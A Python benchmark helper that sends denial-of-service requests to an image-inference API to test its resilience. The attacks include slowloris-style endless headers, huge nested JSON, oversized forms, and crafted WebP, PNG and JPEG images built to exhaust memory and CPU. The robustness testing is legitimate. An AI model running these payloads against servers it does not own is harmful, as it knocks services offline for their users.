"""Malicious requests for `attacks.py`: python benchmarks/support/attackers.py ATTACK ADDRESS KEY SECONDS.

Each attack is one client with one API key that repeats its requests until the time is up. Use it only against your own
servers.
"""

from __future__ import annotations

import base64
import contextlib
import http.client
import io
import itertools
import json
import os
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from PIL import Image

MIB = 2**20
JSON, FORM = "application/json", "multipart/form-data; boundary=b"
INFER = "/v2/models/attire/infer"
LARGE, LARGEST = (8000, 5000), (5000, 5000)  # px: 40 megapixels, and the most that a server accepts by default
REFUSED_PAUSE_S = 0.05  # pause after a refusal


@dataclass(frozen=True)
class Target:
    """A server, its API key, and the end of the attack."""

    host: str
    port: int
    key: str
    end: float

    @property
    def open(self) -> bool:
        return time.monotonic() < self.end

    def post(self, path: str, content_type: str, body: bytes) -> None:
        """Send one request and ignore its outcome."""
        headers = {"Authorization": f"Bearer {self.key}", "Content-Type": content_type}
        connection = http.client.HTTPConnection(self.host, self.port, timeout=max(1.0, self.end - time.monotonic()))
        with contextlib.suppress(OSError, http.client.HTTPException), contextlib.closing(connection):
            connection.request("POST", path, body, headers)
            if connection.getresponse().status != 200:
                time.sleep(REFUSED_PAUSE_S)

    def send(self, head: str, blocks: Iterator[bytes], pause_s: float = 0) -> None:
        """Send a hand-written request until the server closes the connection."""
        with contextlib.suppress(OSError), socket.create_connection((self.host, self.port), timeout=5) as connection:
            connection.sendall(head.replace("\n", "\r\n").encode())
            for block in blocks:
                connection.sendall(block)
                time.sleep(pause_s)
                if not self.open:
                    return
        time.sleep(REFUSED_PAUSE_S)

    def head(self, path: str, *headers: str) -> str:
        lines = [f"POST {path} HTTP/1.1", "Host: localhost", f"Authorization: Bearer {self.key}", *headers]
        return "\n".join(lines) + "\n"


Attack = Callable[[Target], None]
Prepare = Callable[[], Attack]  # builds requests before the attack starts


def encoded(image: Image.Image, format: str, **options: Any) -> bytes:
    content = io.BytesIO()
    image.save(content, format, **options)
    return content.getvalue()


def webp(size: tuple[int, int]) -> bytes:
    """A photo of one colour in a few bytes: VP8L with an alphabet of one symbol for each channel."""
    width, height = size
    bits, place = 0, 0
    # size, no alpha, version 0; no transform, no cache, no meta codes; five simple codes of one symbol
    fields = [(width - 1, 14), (height - 1, 14), (0, 1), (0, 3), (0, 1), (0, 1), (0, 1)] + [(0b0001, 4)] * 5
    for value, length in fields:
        bits |= value << place
        place += length
    data = b"\x2f" + bits.to_bytes((place + 7) // 8, "little")
    data += b"\0" * (len(data) % 2)
    chunk = b"VP8L" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def jpeg_of_scans(size: tuple[int, int], scans: int) -> bytes:
    """A progressive JPEG whose last scan is repeated until it has `scans` scans."""
    content = encoded(Image.new("RGB", size), "JPEG", progressive=True)
    scan = content[content.rindex(b"\xff\xda") : -2]
    return content[:-2] + scan * (scans - content.count(b"\xff\xda")) + b"\xff\xd9"


def png_of_chunks(size: int) -> bytes:
    """A PNG of about `size` bytes, most of them empty chunks before the pixels."""
    content = encoded(Image.new("RGB", (8, 8)), "PNG")
    empty = struct.pack(">I", 0) + b"abCd" + struct.pack(">I", zlib.crc32(b"abCd"))
    return content[:33] + empty * (size // len(empty)) + content[33:]


def form(*photos: bytes, field: str = "photos") -> bytes:
    parts = [
        b'--b\r\nContent-Disposition: form-data; name="%s"; filename="p"\r\n\r\n%s\r\n' % (field.encode(), photo)
        for photo in photos
    ]
    return b"".join(parts) + b"--b--\r\n"


def in_loop(once: Attack, at_once: int) -> Attack:
    """Repeat an attack over `at_once` connections."""

    def attack(target: Target) -> None:
        def loop(_: int) -> None:
            while target.open:
                once(target)

        with ThreadPoolExecutor(at_once) as pool:
            list(pool.map(loop, range(at_once)))

    return attack


def repeated(path: str, content_type: str, body: Callable[[], bytes], at_once: int = 1) -> Prepare:
    """Send the same request repeatedly."""

    def prepare() -> Attack:
        content = body()
        return in_loop(lambda to: to.post(path, content_type, content), at_once)

    return prepare


def photos(*make: Callable[[], bytes], path: str = "/v1/predict", field: str = "photos") -> Prepare:
    """Send eight products at once, each with the photos made by `make`."""
    return repeated(path, FORM, lambda: form(*(make_photo() for make_photo in make), field=field), at_once=8)


def by_hand(head: Callable[[Target], str], block: bytes, pause_s: float = 0, at_once: int = 1) -> Prepare:
    """Send requests that never end: a head, then the same block repeatedly."""
    return lambda: in_loop(lambda to: to.send(head(to), itertools.repeat(block), pause_s), at_once)


def tensor(data: bytes) -> bytes:
    return b'{"inputs":[{"name":"pixels","datatype":"UINT8","shape":[1,3,224,224],"data":[%s0]}]}' % data


def batch(photo: bytes) -> bytes:
    products = [{"photos": [{"base64": base64.b64encode(photo).decode()}] * 2}] * 64
    return json.dumps({"products": products}).encode()


ATTACKS: dict[str, Prepare] = {
    "an endless header": by_hand(lambda to: to.head("/healthz") + "X: ", b"a" * 65536),
    "a thousand headers, byte by byte": by_hand(lambda to: to.head("/healthz") + "X: ", b"a", 1, at_once=250),
    "an endless trailer": by_hand(
        lambda to: to.head("/v1/predict", "Transfer-Encoding: chunked", f"Content-Type: {FORM}") + "\n1\n-\n0\nX: ",
        b"a" * 65536,
    ),
    "a body in chunks of a byte": by_hand(
        lambda to: to.head("/v1/predict", "Transfer-Encoding: chunked", f"Content-Type: {FORM}") + "\n",
        b"1\r\n-\r\n" * 10000,
    ),
    "bodies that stop short of their end": by_hand(
        lambda to: to.head(INFER, f"Content-Length: {100 * MIB}") + "\n" + "0" * 90 * MIB, b"0", 1, at_once=4
    ),
    "106 MiB of lists as a tensor": repeated(INFER, JSON, lambda: tensor(b"[1]," * (106 * MIB // 4))),
    "25 MiB of lists as products": repeated(
        "/v1/predict/batch", JSON, lambda: b'{"products":[%s1]}' % (b"[1]," * (25 * MIB // 4))
    ),
    "25 MiB of unknown fields": repeated(
        "/v1/predict/batch", JSON, lambda: b"{%s}" % b",".join(b'"%x":1' % n for n in range(2 * MIB))
    ),
    "64 MiB of brackets": repeated(INFER, JSON, lambda: b"[" * 64 * MIB),
    "a tensor of numbers and one long word": repeated(
        INFER, JSON, lambda: tensor(b"1," * 2000 + b'"%s",' % (b"a" * MIB))
    ),
    "forms of 80 MiB without a photo": repeated("/v1/predict", FORM, lambda: form(*[b"\r\n" * 5 * MIB] * 8), at_once=4),
    "a form of ampersands": repeated("/v1/predict", "application/x-www-form-urlencoded", lambda: b"&" * 10 * MIB),
    "a form in punycode": repeated(
        "/v1/predict",
        f"{FORM}; charset=punycode",
        lambda: (
            b'--b\r\nContent-Disposition: form-data; name="id"\r\n\r\n%s-%s\r\n--b--\r\n'
            % (b"a" * 100_000, b"a" * 50_000)
        ),
    ),
    "WebP of 40 megapixels": photos(*[lambda: webp(LARGE)] * 8),
    "WebP of 25 megapixels": photos(*[lambda: webp(LARGEST)] * 8),
    "WebP of 25 megapixels, base64": repeated("/v1/predict/batch", JSON, lambda: batch(webp(LARGEST))),
    "WebP of 25 megapixels, to explain": photos(lambda: webp(LARGEST), path="/v1/explain", field="photo"),
    "PNG of 25 megapixels with transparency": photos(lambda: encoded(Image.new("RGBA", LARGEST), "PNG")),
    "PNG of 25 megapixels of 16 bits": photos(lambda: encoded(Image.new("I;16", LARGEST), "PNG")),
    "PNG of empty chunks": photos(lambda: png_of_chunks(9 * MIB)),
    "JPEG of 64 scans, 40 megapixels": photos(lambda: jpeg_of_scans(LARGE, 64)),
    "JPEG of 20 scans, 25 megapixels": photos(lambda: jpeg_of_scans(LARGEST, 20)),
    "JPEG as long as can be": photos(lambda: encoded(Image.new("RGB", (65500, 381)), "JPEG")),
    "photos as shops have them": photos(*[lambda: encoded(Image.effect_noise((1500, 2000), 30), "JPEG")] * 8),
}


def main() -> None:
    """Prepare the attack, print "ready", wait until standard input is closed, and attack.

    Runs with low priority, because a real attacker would not use the server's CPU.
    """
    name, address, key, seconds = sys.argv[1:]
    attack = ATTACKS[name]()
    os.setsid()
    os.nice(19)
    with contextlib.suppress(OSError):  # Linux shares the processor among sessions first
        Path("/proc/self/autogroup").write_text("19", encoding="ascii")
    url = urlsplit(address)
    assert url.hostname
    assert url.port
    print("ready", flush=True)  # noqa: T201
    sys.stdin.read()
    attack(Target(url.hostname, url.port, key, time.monotonic() + float(seconds)))


if __name__ == "__main__":
    main()
